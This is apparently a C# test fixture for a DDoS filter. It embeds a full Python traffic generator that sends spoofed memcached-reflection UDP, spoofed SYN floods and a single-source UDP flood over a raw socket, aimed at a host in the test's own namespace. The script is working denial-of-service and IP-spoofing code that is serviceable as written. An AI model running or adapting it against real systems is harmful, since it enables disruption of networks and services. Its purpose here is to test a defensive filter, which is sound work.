namespace Samples.DdosFilter.Tests;

/// <summary>
/// The attack traffic: a Python generator on an AF_PACKET socket in the attacker's namespace, sending prebuilt Ethernet
/// frames round-robin for a bounded time. Three kinds, interleaved: spoofed memcached-reflection UDP (source port 11211)
/// from many random sources, spoofed SYNs to the protected port from as many, and a UDP flood from one source to an
/// unfiltered port (for the per-source rate limit). Every destination is the host's address in the test's own namespace.
/// </summary>
internal static class Flood
{
    /// <summary>argv: iface dst-mac dst-ip heavy-src-ip sources seconds syn-port. Prints "sent udp N syn N heavy N".</summary>
    public const string Script = """
import os, random, socket, struct, sys, time
iface, dst_mac, dst_ip, heavy_ip = sys.argv[1], bytes.fromhex(sys.argv[2].replace(':', '')), socket.inet_aton(sys.argv[3]), socket.inet_aton(sys.argv[4])
sources, seconds, syn_port = int(sys.argv[5]), float(sys.argv[6]), int(sys.argv[7])
src_mac = bytes.fromhex(open(f'/sys/class/net/{iface}/address').read().strip().replace(':', ''))
def csum(b):
    if len(b) % 2: b += b'\0'
    s = sum(struct.unpack(f'!{len(b)//2}H', b)); s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
def ip(src, proto, payload):
    h = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), 0, 0x4000, 64, proto, 0, src, dst_ip)
    return h[:10] + struct.pack('!H', csum(h)) + h[12:] + payload
def eth(p): return dst_mac + src_mac + b'\x08\x00' + p
def udp(src, sport, dport, data):
    u = struct.pack('!HHHH', sport, dport, 8 + len(data), 0) + data
    c = csum(src + dst_ip + struct.pack('!BBH', 0, 17, len(u)) + u) or 0xffff
    return eth(ip(src, 17, u[:6] + struct.pack('!H', c) + u[8:]))
def syn(src, sport):
    t = struct.pack('!HHIIBBHHH', sport, syn_port, random.getrandbits(32), 0, 6 << 4, 0x02, 64240, 0, 0) + b'\x02\x04\x05\xb4\x01\x01\x04\x02'
    c = csum(src + dst_ip + struct.pack('!BBH', 0, 6, len(t)) + t)
    return eth(ip(src, 6, t[:16] + struct.pack('!H', c) + t[18:]))
rnd = random.Random(18)
def spoofed(): return struct.pack('!I', (198 << 24) | (18 << 16) | rnd.getrandbits(17)) if rnd.random() < 0.5 else struct.pack('!I', (100 << 24) | (64 << 16) | rnd.getrandbits(22))
frames = []
for i in range(sources):
    frames.append(('udp', udp(spoofed(), 11211, rnd.randrange(1024, 65536), b'VALUE k 0 1400\r\n' + b'x' * 64)))
    frames.append(('syn', syn(spoofed(), rnd.randrange(1024, 65536))))
    frames.append(('heavy', udp(heavy_ip, 4444, 5000, b'h' * 32)))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
print('flooding', flush=True)
counts = {'udp': 0, 'syn': 0, 'heavy': 0}
send = s.send
end = time.monotonic() + seconds
i = 0
n = len(frames)
while time.monotonic() < end:
    for _ in range(3000):
        kind, f = frames[i]
        try:
            send(f)
            counts[kind] += 1
        except BlockingIOError:
            pass
        except OSError:
            time.sleep(0.0005)
        i = (i + 1) % n
print(f"sent udp {counts['udp']} syn {counts['syn']} heavy {counts['heavy']}", flush=True)
""";
}
